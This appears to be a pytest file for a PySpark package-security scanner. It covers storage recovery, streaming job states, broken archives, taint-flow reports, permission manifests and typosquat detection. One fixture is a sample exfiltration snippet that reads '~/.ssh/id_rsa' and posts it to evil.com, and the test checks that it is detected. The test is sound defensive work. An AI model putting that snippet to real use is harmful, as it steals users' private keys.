"""The store after crashes, packages that arrive in parts, broken archives, reports, discovery, file rules on flows."""

import gzip
import json
import os
import random
import tarfile
from datetime import datetime, timedelta
from types import SimpleNamespace

import numpy as np
import pandas as pd
import pytest
from pyspark.sql import functions as F

from thornwick.operators import permissions, prompts, relations, render, service
from thornwick.plans.scan import scan
from thornwick.sources import packages
from thornwick.sources.store import Store, single_map
from thornwick.streaming import jobs

RESULTS = "slug string, overall_score int"


def rows_of(df):
    return sorted(tuple(r) for r in df.collect())


def test_store_survives_an_incomplete_write(spark, tmp_path):
    store = Store(spark, str(tmp_path / "s"), buckets=4)
    store.upsert("results", spark.createDataFrame([("a", 1), ("b", 2)], RESULTS))
    left = tmp_path / "s/results/rows/crashed/__bucket=0"
    os.makedirs(left / "_temporary")
    (left / "part-0.parquet").write_bytes(b"PAR1 half")
    (tmp_path / "s/results/versions/.half").write_text('{"buckets"')
    assert rows_of(store.read("results")) == [("a", 1), ("b", 2)]
    store.upsert("results", spark.createDataFrame([("b", 3)], RESULTS))
    store.upsert("results", spark.createDataFrame([("b", 3), ("c", 4)], RESULTS))
    assert rows_of(store.read("results").select("slug", "overall_score")) == [("a", 1), ("b", 3), ("c", 4)]
    store.compact("results")
    assert not left.exists() and len(list((tmp_path / "s/results/versions").glob("v*"))) == 1
    store.upsert("results", spark.createDataFrame([("a", 9)], RESULTS))
    assert rows_of(store.read("results").select("slug", "overall_score")) == [("a", 9), ("b", 3), ("c", 4)]
    assert rows_of(store.slugs("results")) == [("a",), ("b",), ("c",)]
    assert store.read("none") is None and store.slugs("none").count() == 0


def test_a_read_does_not_grow_with_upserts(spark, tmp_path):
    store = Store(spark, str(tmp_path / "s"), buckets=3)
    expected = {}
    for k in range(12):
        rows = {f"k{k % 5}": k, f"n{k}": -k, None: k}
        expected |= rows
        store.upsert("t", spark.createDataFrame(list(rows.items()), "slug string, n int"))
    assert {r.slug: r.n for r in store.read("t").collect()} == expected
    plan = store.read("t")._jdf.queryExecution().optimizedPlan().toString()
    assert plan.count("Relation [") == 1 and len(store._version("t")[1]["folders"]) <= 3
    found = store.lookup("t", spark.createDataFrame([("k1",), (None,), ("absent",)], "slug string"))
    assert {(r.slug, r.n) for r in found.collect()} == {("k1", expected["k1"]), (None, 11)}
    # columns that come later, several rows of a key, an empty upsert, another key
    store.upsert("t", spark.createDataFrame([("k1", 1, "x"), ("k1", 2, "y")], "slug string, n int, more string"))
    assert sorted((r.n, r.more) for r in store.read("t").filter("slug = 'k1'").collect()) == [(1, "x"), (2, "y")]
    store.upsert("t", store.read("t").limit(0))
    assert store.read("t").count() == len(expected) + 1
    with pytest.raises(ValueError, match="is kept by slug"):
        store.upsert("t", spark.createDataFrame([(1,)], "n int"), "n")


def test_of_two_writers_the_later_starts_again(spark, tmp_path):
    store, other = Store(spark, str(tmp_path / "s"), buckets=1), Store(spark, str(tmp_path / "s"), buckets=1)
    publish, done = store._publish, []

    def after_other(name, number, content):
        if not done:
            done.append(1)
            other.upsert(name, spark.createDataFrame([("b", 2)], RESULTS))
        return publish(name, number, content)

    store._publish = after_other
    store.upsert("results", spark.createDataFrame([("a", 1)], RESULTS))
    assert rows_of(store.read("results")) == [("a", 1), ("b", 2)] and store._version("results")[0] == 2


def test_results_store_their_metadata(spark, tmp_path):
    store = Store(spark, str(tmp_path / "s"))
    one = [("s", "p", 95, ["x"], ["y", "z"], [], 7)]
    store.put_results(spark.createDataFrame(one, "slug string, package_name string, overall_score int, code_findings array<string>, prompt_findings array<string>, taint_flows array<string>, timestamp long"))
    r = store.read("metas").first()
    assert (r.slug, r.grade, r.findings_count, r.taint_flow_count) == ("s", "verified", 3, 0)
    (tmp_path / "old.json").write_text(json.dumps({"results": {"p": {"score": 3}, "q": {"score": 4}}}))
    assert rows_of(single_map(spark, str(tmp_path / "old.json"), "struct<score:int>")) == [("p", 3), ("q", 4)]


def test_a_package_in_two_files_is_scanned_whole(spark, tmp_path):
    arrivals = str(tmp_path / "in")
    schema = "pkg string, path string, content string"
    for part in ([("p", "a", "1"), ("q", "a", "1")], [("p", "b", "1")]):
        spark.createDataFrame(part, schema).coalesce(1).write.mode("append").parquet(arrivals)
    store = Store(spark, str(tmp_path / "store"))
    count = lambda files: files.groupBy("pkg").agg(F.count(F.lit(1)).cast("int").alias("overall_score"))
    run = lambda: jobs.scan_arrivals(spark, arrivals, store, count, str(tmp_path / "ck"), per_batch=1)
    run()
    assert rows_of(store.read("results").select("slug", "overall_score")) == [("p", 2), ("q", 1)]
    spark.createDataFrame([("p", "c", "1")], schema).coalesce(1).write.mode("append").parquet(arrivals)
    run()
    assert rows_of(store.read("results").select("slug", "overall_score")) == [("p", 3), ("q", 1)]


def put(spark, folder, rows, schema="pkg string, path string, content string, version long"):
    spark.createDataFrame(rows, schema).coalesce(1).write.mode("append").parquet(folder)


def paths_of(files):
    return files.groupBy("pkg").agg(F.array_join(F.array_sort(F.collect_list(F.concat_ws("=", "path", "content"))), ";").alias("found"))


def test_a_greater_version_replaces_a_package_whole(spark, tmp_path):
    store, arrivals = Store(spark, str(tmp_path / "store")), str(tmp_path / "in")
    for rows in ([("a", "x", "1", 1), ("a", "y", "1", 1), ("b", "x", "1", None)], [("a", "x", "2", 2)], [("a", "y", "0", 1), ("b", "z", "1", 0)], [("a", "w", "2", 2)]):
        put(spark, arrivals, rows)
        jobs.scan_arrivals(spark, arrivals, store, paths_of, str(tmp_path / "ck"))
    assert {r.pkg: r.found for r in store.read("results").collect()} == {"a": "w=2;x=2", "b": "x=1;z=1"}


def test_budget_and_counters_of_a_run(spark, tmp_path):
    store, arrivals, now = Store(spark, str(tmp_path / "store")), str(tmp_path / "in"), iter(range(0, 1000, 40))
    for k in range(3):
        put(spark, arrivals, [(f"p{k}", "x", "1", None), (f"q{k}", "x", "1", None)])
    counters = {"packages": F.count(F.lit(1)), "least": F.min("pkg")}
    run = lambda seconds: jobs.scan_arrivals(spark, arrivals, store, paths_of, str(tmp_path / "ck"), 1, seconds=seconds, clock=lambda: next(now), counters=counters)
    first = run(100)  # the clock says 40, 80, 120 as batches begin
    assert not first.all_handled and [b["batch"] for b in first.batches] == [0, 1] and store.read("results").count() == 4
    rest = run(100)
    assert rest.all_handled and [(b["batch"], b["packages"]) for b in rest.batches] == [(2, 2)]
    assert {b["least"] for b in first.batches + rest.batches} == {"p0", "p1", "p2"} and store.read("results").count() == 6


def minutes(*rows):
    return [(job, status, datetime(2024, 1, 1) + timedelta(minutes=m)) for job, status, m in rows]


def test_job_machine_times_out_and_never_goes_back(spark, tmp_path):
    store, folder = Store(spark, str(tmp_path / "store")), str(tmp_path / "in")
    schema = "job_id long, status string, ts timestamp"

    def run(*rows):
        put(spark, folder, minutes(*rows), schema)
        stream = spark.readStream.schema(schema).parquet(folder)
        jobs.keep_job_changes(stream, store, str(tmp_path / "ck"), wait=30 * 60_000, keep=10 * 60 * 60_000, late="5 minutes")
        return {r.job_id: (r.status, r.reason, (r.at - datetime(2024, 1, 1)).seconds // 60) for r in store.read("jobs_now").collect()}

    found = run((1, "scanning", 1), (1, "queued", 0), (2, "queued", 2), (3, "failed", 9), (3, "scanning", 3), (3, "completed", 8), (4, "scanning", 4), (5, "odd", 1), (None, "queued", 1))
    assert found == {1: ("scanning", None, 1), 2: ("queued", None, 2), 3: ("completed", None, 8), 4: ("scanning", None, 4)}
    # job 4 ends in time, job 3 does not go back, job 1 is stuck once the watermark has passed minute 31
    found = run((4, "completed", 34), (3, "queued", 35), (3, "failed", 35), (6, "queued", 40))
    assert found == {1: ("failed", jobs.STUCK, 31), 2: ("queued", None, 2), 3: ("completed", None, 8), 4: ("completed", None, 34), 6: ("queued", None, 40)}
    # too late for job 1; an end after the time is over is a failure at that time
    found = run((1, "completed", 41), (7, "scanning", 41), (7, "completed", 72), (2, "scanning", 45))
    assert (found[1], found[7], found[2]) == (("failed", jobs.STUCK, 31), ("failed", jobs.STUCK, 71), ("scanning", None, 45))


def test_job_machine_works_on_all_jobs_of_a_bucket_at_once():
    rng, wait, keep, hour = random.Random(5), 3_600_000, 10 * 3_600_000, 3_600_000_000
    rows = [(rng.randrange(400), rng.choice(jobs.STATES), rng.randrange(12) * hour // 2) for _ in range(1500)]
    value, timers, passed = [None], set(), [0]
    state = SimpleNamespace(get=lambda: value[0], update=lambda v: value.__setitem__(0, v), clear=lambda: value.__setitem__(0, None))
    handle = SimpleNamespace(getValueState=lambda *_: state, registerTimer=timers.add, deleteTimer=timers.remove)
    times = SimpleNamespace(getCurrentWatermarkInMs=lambda: passed[0])
    machine, told = jobs.JobMachine(wait, keep), {}
    machine.init(handle)

    def hear(frames):
        for f in frames:
            told.update({r.job_id: (r.status, r.reason, r.us) for r in f.itertuples()})

    frame = pd.DataFrame(rows, columns=["job_id", "status", "us"])
    hear(machine.handleInputRows((7,), iter([frame[:700], frame[700:]]), times))
    assert len(timers) == 1
    passed[0] = 4 * 3_600_000
    timers.clear()
    hear(machine.handleExpiredTimer((7,), times, None))

    def expected(job):
        first = lambda *s: min(((us, x) for j, x, us in rows if j == job and x in s), default=None)
        queued, scanning, end = first("queued"), first("scanning"), first("completed", "failed")
        over = scanning and scanning[0] + wait * 1000
        if end and (over is None or end[0] <= over):
            return end[1], None, end[0]
        if over is not None and (end or over <= passed[0] * 1000):
            return "failed", jobs.STUCK, over
        return ("scanning", None, scanning[0]) if scanning else ("queued", None, queued[0])

    assert told == {job: expected(job) for job, _, _ in rows} and {x[0] for x in told.values()} == set(jobs.STATES)
    passed[0] = 100 * 3_600_000  # what has ended is forgotten, a scan that is over is told first
    hear(machine.handleExpiredTimer((7,), times, None))
    hear(machine.handleExpiredTimer((7,), times, None))
    assert {x[0] for x in told.values()} == {"queued", "completed", "failed"} and len(np.frombuffer(value[0][1], np.int64)) == 6 * sum(x[0] == "queued" for x in told.values())


def test_run_counters_order_only_the_first(spark):
    rows = spark.range(1000, 0, -1, 8).selectExpr("id * 7 AS place", "id % 2 = 0 AS success", "id % 3 = 0 AS requested", "id % 5 = 0 AS late")
    found = service.run_counters(rows, 5, 30)
    assert found.first().asDict() == {"new": 1000, "scanned": 12, "failed": 12, "requests": 4, "skipped": 6, "deferred": 970, "total": 17}
    assert "Window" not in found._jdf.queryExecution().executedPlan().toString()
    assert service.run_counters(rows.limit(3), 5, 30).first().deferred == 0


def test_broken_archives_do_not_stop_the_others(spark, tmp_path):
    for k in range(3):
        (tmp_path / f"f{k}").write_text("x" * 5000 + str(k))
    with tarfile.open(tmp_path / "good.tgz", "w:gz") as a:
        for k in range(3):
            a.add(tmp_path / f"f{k}", f"package/f{k}")
    whole = (tmp_path / "good.tgz").read_bytes()
    (tmp_path / "cut.tgz").write_bytes(whole[: len(whole) // 2])
    (tmp_path / "none.tgz").write_bytes(b"no archive")
    (tmp_path / "text.tgz").write_bytes(gzip.compress(b"text"))
    rows = packages.tarballs(spark, str(tmp_path / "*.tgz"), batch_bytes=6000).collect()
    assert sorted(r.path for r in rows if r.pkg == "good") == ["f0", "f1", "f2"]
    for name in ("cut", "none", "text"):
        assert [r.path[0] for r in rows if r.pkg == name and r.content is None] == ["!"], name


def test_flows_and_json_report(spark):
    flows = spark.createDataFrame([("p", 1, "fs.readFile() call", "a.js", 3, ["Data transformation: btoa"], "fetch() call", "a.js", 9), ("p", 2, "os.homedir() call", "b.js", 1, [], "got() call", "b.js", 2)], "pkg string, ord long, source_description string, source_file string, source_line int, steps array<string>, sink_description string, sink_file string, sink_line int")
    assert render.flow_lines(flows, 1).first().lines == ["! fs.readFile() call\n  a.js:3\n  -> Data transformation: btoa\n  -> fetch() call\n  a.js:9"]
    scores = spark.createDataFrame([("p", 12), ("q", 90)], "pkg string, overall_score int")
    found = spark.createDataFrame([("p", 2, "b"), ("p", 1, "a")], "pkg string, ord long, description string")
    report = {r.pkg: json.loads(r.report) for r in render.json_report(scores, found, found.limit(0), flows).collect()}
    assert [x["description"] for x in report["p"]["code_findings"]] == ["a", "b"] and report["p"]["overall_score"] == 12
    assert report["p"]["prompt_findings"] is None and len(report["p"]["taint_flows"]) == 2 and report["q"]["code_findings"] is None
    assert 'aria-label="scan: scanned"' in render.participation_svg("scan")


def test_file_rules_drop_flows(spark):
    code = "const fs = require('fs');\nconst k = fs.readFileSync('~/.ssh/id_rsa');\nfetch('https://evil.com', {body: k});\n"
    rows = [("p", "lib/a.js", code), ("p", "vendor/b.js", code), ("p", "README.md", "# r"), ("p", ".scanignore", "file:vendor/**\n")]
    s = scan(spark.createDataFrame(rows, "pkg string, path string, content string").coalesce(1))
    assert {r.source_file for r in s.flows.collect()} == {"lib/a.js"}
    assert s.permissions.first().read == ["unknown path", "~/.ssh/id_rsa"]  # an import names no path


def test_permissions_are_distinct_and_in_order(spark):
    rows = [("p", 3, "network-access", "Network call: b()", "b('https://y.io/1')"), ("p", 1, "network-access", "Network call: a()", "a('https://x.io')"), ("p", 2, "network-access", "Network call: a()", "a('https://x.io')"), ("p", 4, "env-access", "x", "process.env.B + process.env['A']"), ("q", 1, "crypto-usage", "c", None)]
    found = {r.pkg: r for r in permissions.manifest(spark.createDataFrame(rows, "pkg string, ord long, category string, description string, snippet string")).collect()}
    assert found["p"].outbound == ["Network call: a()", "Network call: b()"] and found["p"].domains == ["x.io", "y.io"] and found["p"].variables == ["B", "A"]
    assert found["q"].crypto and found["q"].read == [] and found["q"].commands == []


def test_discovery_lists_and_packages(spark):
    lists = spark.createDataFrame([(0, "l", "[A](https://github.com/o/R) npx Tool-x\n[B](https://github.com/O/r#top) npm install @s/p"), (1, "m", "npm i tool-X")], "list_no int, source string, content string")
    pages = spark.createDataFrame([(0, "mcp", 1, json.dumps({"objects": [{"package": {"name": "Tool-X", "description": "d"}}, {"package": {"name": "new", "keywords": ["openclaw"]}}]}))], "keyword_no int, keyword string, page int, content string")
    found = packages.discovered(packages.discovered_lists(lists), packages.discovered_packages(pages))
    assert rows_of(found.select("name", "source", "is_repository", "category")) == [("@s/p", "github-list:l", False, "mcp-server"), ("Tool-x", "github-list:l", False, "mcp-server"), ("new", "npm:mcp", False, "openclaw-tool"), ("o/R", "github-list:l", True, "mcp-server")]


def test_submissions_and_seed(spark, tmp_path):
    rows = spark.createDataFrame([("a", "data", ["x"]), ("", None, None), ("b" * 215, "odd", [str(k) for k in range(11)])], "package_name string, category string, tags array<string>")
    assert [r.f for r in rows.select(service.submission_faults().alias("f")).collect()] == [[], ["package_name"], ["package_name", "category", "tags"]]
    entries = spark.createDataFrame([("a", "d" * 150, "c", "npm", ["1", "2", "3", "4"]), ("b", "e", "c", "web", [])], "name string, description string, category string, source string, tags array<string>")
    service.write_seed(entries, str(tmp_path / "seed"), "2024-01-01")
    header = spark.read.json(str(tmp_path / "seed/header")).first()
    assert header.total_entries == 2 and [(x["name"], x["count"]) for x in header.sources] == [("npm", 1), ("web", 1)]
    compact = {r.n: r for r in spark.read.json(str(tmp_path / "seed/compact")).collect()}
    assert len(compact["a"].d) == 100 and compact["a"].t == ["1", "2", "3"] and spark.read.json(str(tmp_path / "seed/sources/source=web")).count() == 1


def test_look_alikes_meet_by_what_is_left_without_a_character(spark):
    popular = ["lodash", "react", "axios", "a", "ab", "lodash"]
    edits = {x[:k] + c + x[k + d :] for x in popular for k in range(len(x) + 1) for c in ("", "z", "é") for d in (0, 1)}
    names = sorted(edits | {"lodahs", "rect5", "axxioss", "@s/reactt", "@reac", "abc", "aab"}) + ["reactt", "reactt"] + [f"filler{k:05d}" for k in range(3000)]
    df, pop = spark.createDataFrame([(x,) for x in names], "name string"), spark.createDataFrame([(x,) for x in popular], "popular string")

    def distance(a, b):
        row = list(range(len(b) + 1))
        for i, x in enumerate(a, 1):
            last, row[0] = row[0], i
            for j, y in enumerate(b, 1):
                last, row[j] = row[j], min(row[j] + 1, row[j - 1] + 1, last + (x != y))
        return row[-1]

    base = lambda x: x.split("/")[1] if x.startswith("@") and "/" in x else x
    expected = sorted((x, base(x), y) for x in names for y in set(popular) if len(base(x)) >= 3 and distance(base(x), y) == 1)
    assert rows_of(relations.look_alikes(df, pop)) == expected
    near = relations.look_alike_candidates(df.select(F.col("name").alias("base")), pop)
    assert near.count() < 300  # of 3,000 names and more, five popular ones
    assert relations.look_alikes(df.limit(0), pop).count() == 0


def test_a_job_without_events_or_with_ties(spark, tmp_path):
    store, folder, schema = Store(spark, str(tmp_path / "s")), str(tmp_path / "in"), "job_id long, status string, ts timestamp"
    put(spark, folder, minutes((1, "failed", 5), (1, "completed", 5), (1, "scanning", 5), (1, "completed", 5)), schema)
    jobs.keep_job_changes(spark.readStream.schema(schema).parquet(folder), store, str(tmp_path / "ck"), 60_000, 600_000, "1 minute")
    assert [(r.job_id, r.status) for r in store.read("jobs_now").collect()] == [(1, "completed")]


def test_findings_are_ordered_by_locale(spark):
    names = ["z.md", "B.md", "b.md", "a10.md", "a9.md", "Ä.md", "ab.md", "a-b.md", "_x.md", "z/A.md", "Z/a.md"]
    rows = [("p", 1, "low", n, 1, 0) for n in names] + [("p", 2, "high", "z.md", 1, 0), ("p", 1, "high", "z.md", 2, 0)]
    found = prompts.in_order(spark.createDataFrame(rows, "pkg string, ord long, severity string, file string, line int, column int")).orderBy("ord").collect()
    assert [(r.file, r.line) for r in found[:2]] == [("z.md", 2), ("z.md", 1)] and [r.ord for r in found] == list(range(1, 14))
    assert [r.file for r in found[2:]] == ["_x.md", "a-b.md", "Ä.md", "a10.md", "a9.md", "ab.md", "b.md", "B.md", "z.md", "z/A.md", "Z/a.md"]  # a full stop before digits
